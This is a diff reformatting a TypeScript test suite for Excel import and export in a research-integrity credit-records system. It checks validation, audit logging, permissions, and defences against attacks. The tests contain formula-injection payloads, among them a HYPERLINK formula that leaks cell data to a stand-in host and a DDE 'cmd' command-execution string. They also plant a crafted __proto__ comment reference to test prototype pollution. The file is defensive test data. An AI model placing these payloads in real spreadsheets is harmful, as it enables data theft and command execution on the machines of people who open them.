@@ -31,9 +31,20 @@ beforeAll(async () => {
 });
 afterAll(async () => t.close());
 
-async function send<T>(user: TestUser | undefined, url: string, file: Buffer, filename = '信用信息.xlsx', headers: Record<string, string> = {}): Promise<{ status: number; body: Envelope<T> }> {
+async function send<T>(
+  user: TestUser | undefined,
+  url: string,
+  file: Buffer,
+  filename = '信用信息.xlsx',
+  headers: Record<string, string> = {},
+): Promise<{ status: number; body: Envelope<T> }> {
   const body = multipartBody({}, { filename, content: file, contentType: XLSX });
-  const response = await t.app.inject({ method: 'POST', url, headers: { ...(user?.auth ?? {}), ...body.headers, ...headers }, payload: body.payload });
+  const response = await t.app.inject({
+    method: 'POST',
+    url,
+    headers: { ...(user?.auth ?? {}), ...body.headers, ...headers },
+    payload: body.payload,
+  });
   return { status: response.statusCode, body: response.json<Envelope<T>>() };
 }
 
@@ -74,8 +85,13 @@ describe('importing 10,000 rows', () => {
     expect(checked.status).toBe(200);
     expect(checked.body.data).toMatchObject({ total: 10_000, valid: 9_950, errorCount: 50, repeated: false });
     expect(checked.body.data.errors.map(({ row, column, field }) => ({ row, column, field }))).toEqual(planted.errors);
-    expect(checked.body.data.errors.find((error) => error.field === 'creditType')?.message).toContain('不是可选的值，请填写：抄袭、剽窃他人科研成果');
-    expect(checked.body.data.errors.find((error) => error.field === 'idNumber')).toMatchObject({ title: '身份证号码', message: '身份证号码有误，请核对后重新输入' });
+    expect(checked.body.data.errors.find((error) => error.field === 'creditType')?.message).toContain(
+      '不是可选的值，请填写：抄袭、剽窃他人科研成果',
+    );
+    expect(checked.body.data.errors.find((error) => error.field === 'idNumber')).toMatchObject({
+      title: '身份证号码',
+      message: '身份证号码有误，请核对后重新输入',
+    });
 
     const refused = await send<ImportReport>(officer, '/api/integrity/app/credit/info/import-excel', broken);
     expect(refused.status).toBe(400);
@@ -91,14 +107,33 @@ describe('importing 10,000 rows', () => {
 
     // In force from the import on, each with its history row, and one audit row with the file's hash.
     const db = t.app.database.db;
-    const stored = await db.select().from(records).where(and(eq(records.resource, 'credit'), sql`${records.data} ->> 'idNumber' = ${demoIdNumber(0)}`));
+    const stored = await db
+      .select()
+      .from(records)
+      .where(and(eq(records.resource, 'credit'), sql`${records.data} ->> 'idNumber' = ${demoIdNumber(0)}`));
     expect(stored).toHaveLength(1);
     expect(stored[0]?.status).toBe('effective');
     // Labels in the sheet, keys in the record.
-    expect(stored[0]?.data).toMatchObject({ subjectType: 'person', creditType: 'plagiarism', severity: 'minor', decisionDate: '2022-01-01' });
-    expect((await db.select().from(recordEvents).where(eq(recordEvents.recordId, stored[0]!.id)))[0]).toMatchObject({ action: 'import', toStatus: 'effective' });
+    expect(stored[0]?.data).toMatchObject({
+      subjectType: 'person',
+      creditType: 'plagiarism',
+      severity: 'minor',
+      decisionDate: '2022-01-01',
+    });
+    expect((await db.select().from(recordEvents).where(eq(recordEvents.recordId, stored[0]!.id)))[0]).toMatchObject({
+      action: 'import',
+      toStatus: 'effective',
+    });
     const audit = await db.select().from(auditLog).where(eq(auditLog.event, 'RECORDS_IMPORTED'));
-    expect(audit).toEqual([expect.objectContaining({ objectType: 'credit', objectId: imported.body.data.sha256, action: 'integrityCredit.import', reason: 'rows:10000', userId: officer.id })]);
+    expect(audit).toEqual([
+      expect.objectContaining({
+        objectType: 'credit',
+        objectId: imported.body.data.sha256,
+        action: 'integrityCredit.import',
+        reason: 'rows:10000',
+        userId: officer.id,
+      }),
+    ]);
 
     // The same file again within 24 hours: 409, and the check says so beforehand.
     expect((await send<ImportReport>(officer, `${CREDIT}/import/check`, fixed)).body.data.repeated).toBe(true);
@@ -124,7 +159,9 @@ describe('what an import refuses (SECURITY R25)', () => {
     workbook.worksheets[0]?.addRow(['王明', '110105199003071239']);
     const missing = await send(officer, `${CREDIT}/import/check`, Buffer.from(await workbook.xlsx.writeBuffer()));
     expect(missing.status).toBe(400);
-    expect(missing.body.msg).toBe('缺少必填列：主体类型、失信行为类型、失信程度、失信事实、处理决定、决定日期、有效期至、责任单位，请使用导入模板');
+    expect(missing.body.msg).toBe(
+      '缺少必填列：主体类型、失信行为类型、失信程度、失信事实、处理决定、决定日期、有效期至、责任单位，请使用导入模板',
+    );
     const empty = await send(officer, `${CREDIT}/import/check`, await creditWorkbook(0));
     expect(empty.status).toBe(400);
     expect(empty.body.msg).toContain('没有数据行');
@@ -147,7 +184,10 @@ describe('what an import refuses (SECURITY R25)', () => {
   it('reads a workbook with a __proto__ comment reference without polluting anything', async () => {
     const file = await creditWorkbook(1);
     const zip = await JSZip.loadAsync(file);
-    zip.file('xl/comments1.xml', '<?xml version="1.0" encoding="UTF-8"?><comments xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><authors><author>x</author></authors><commentList><comment ref="__proto__" authorId="0"><text><t>polluted</t></text></comment></commentList></comments>');
+    zip.file(
+      'xl/comments1.xml',
+      '<?xml version="1.0" encoding="UTF-8"?><comments xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><authors><author>x</author></authors><commentList><comment ref="__proto__" authorId="0"><text><t>polluted</t></text></comment></commentList></comments>',
+    );
     const hostile = await zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' });
     const response = await send<ImportReport>(officer, `${CREDIT}/import/check`, hostile);
     expect([200, 400]).toContain(response.status);
@@ -168,7 +208,15 @@ describe('what an import refuses (SECURITY R25)', () => {
   it('answers in English for an en-US caller, on the same rows and columns', async () => {
     const file = await creditWorkbook(3, (n, row) => (n === 1 ? [row[0]!, row[1]!, row[2]!, row[3]!, 'Fraud', ...row.slice(5)] : row));
     const response = await send<ImportReport>(officer, `${CREDIT}/import/check`, file, 'credit.xlsx', { 'accept-language': 'en-US' });
-    expect(response.body.data.errors).toEqual([expect.objectContaining({ row: 3, column: 'E', title: 'Misconduct', field: 'creditType', message: expect.stringContaining('Not one of the options') })]);
+    expect(response.body.data.errors).toEqual([
+      expect.objectContaining({
+        row: 3,
+        column: 'E',
+        title: 'Misconduct',
+        field: 'creditType',
+        message: expect.stringContaining('Not one of the options'),
+      }),
+    ]);
   });
 });
 
@@ -176,10 +224,21 @@ describe('export (SECURITY R24)', () => {
   it('writes the list under its filters as text cells, formulas escaped, numbers masked, with an audit row; <permission>.export only', async () => {
     const hostile = ['=HYPERLINK("http://x?"&A1)', '+1+1', '-2+3', '@SUM(1)', '\t=1+1', "=cmd|' /C calc'!A0"];
     for (const [index, text] of hostile.entries()) {
-      const saved = await call<RecordView>(t, officer, 'POST', '/api/integrity/app/credit/info/save', creditRecordData({ subjectName: `${text}导出${index}` }));
+      const saved = await call<RecordView>(
+        t,
+        officer,
+        'POST',
+        '/api/integrity/app/credit/info/save',
+        creditRecordData({ subjectName: `${text}导出${index}` }),
+      );
       expect(saved.status).toBe(200);
     }
-    const response = await t.app.inject({ method: 'POST', url: `${CREDIT}/lists/all/export`, headers: officer.auth, payload: { subjectName: '导出' } });
+    const response = await t.app.inject({
+      method: 'POST',
+      url: `${CREDIT}/lists/all/export`,
+      headers: officer.auth,
+      payload: { subjectName: '导出' },
+    });
     expect(response.statusCode).toBe(200);
     expect(decodeURIComponent(String(response.headers['content-disposition']))).toMatch(/信用信息_\d{4}-\d{2}-\d{2}文件\.xlsx/);
     const sheet = (await readWorkbook(response.rawPayload)).worksheets[0]!;
@@ -197,17 +256,35 @@ describe('export (SECURITY R24)', () => {
     });
     expect(names.sort()).toEqual(hostile.map((text, index) => `'${text}导出${index}`).sort());
     const audit = await t.app.database.db.select().from(auditLog).where(eq(auditLog.event, 'RECORDS_EXPORTED'));
-    expect(audit).toEqual([expect.objectContaining({ objectType: 'credit', objectId: 'all', action: 'integrityCredit.export', reason: `rows:${hostile.length}` })]);
-    expect((await t.app.inject({ method: 'POST', url: `${CREDIT}/lists/all/export`, headers: applicant.auth, payload: {} })).statusCode).toBe(403);
+    expect(audit).toEqual([
+      expect.objectContaining({
+        objectType: 'credit',
+        objectId: 'all',
+        action: 'integrityCredit.export',
+        reason: `rows:${hostile.length}`,
+      }),
+    ]);
+    expect(
+      (await t.app.inject({ method: 'POST', url: `${CREDIT}/lists/all/export`, headers: applicant.auth, payload: {} })).statusCode,
+    ).toBe(403);
   });
 
   it('escapes every cell that could start a formula and writes it as text, never as a formula', async () => {
-    const response = await t.app.inject({ method: 'POST', url: '/api/resources/audit-log/lists/credit-log/export', headers: officer.auth, payload: {} });
+    const response = await t.app.inject({
+      method: 'POST',
+      url: '/api/resources/audit-log/lists/credit-log/export',
+      headers: officer.auth,
+      payload: {},
+    });
     expect(response.statusCode).toBe(200);
     const { escapeFormula } = await import('../../../src/server/services/excel/escape-formula');
     const { writeWorkbook } = await import('../../../src/server/services/excel/write-workbook');
     const hostile = ['=HYPERLINK("http://x?"&A1)', '+1+1', '-2+3', '@SUM(1)', '\t=1+1', '\r=1', '\u0000=1', "=cmd|' /C calc'!A0"];
-    const sheet = (await readWorkbook(await writeWorkbook([{ name: 'x', columns: [{ title: 'text' }, { title: 'amount' }], rows: hostile.map((text) => [text, -5]) }]))).worksheets[0]!;
+    const sheet = (
+      await readWorkbook(
+        await writeWorkbook([{ name: 'x', columns: [{ title: 'text' }, { title: 'amount' }], rows: hostile.map((text) => [text, -5]) }]),
+      )
+    ).worksheets[0]!;
     hostile.forEach((text, index) => {
       const cell = sheet.getRow(index + 2).getCell(1);
       expect(cell.type).toBe(ExcelJS.ValueType.String);
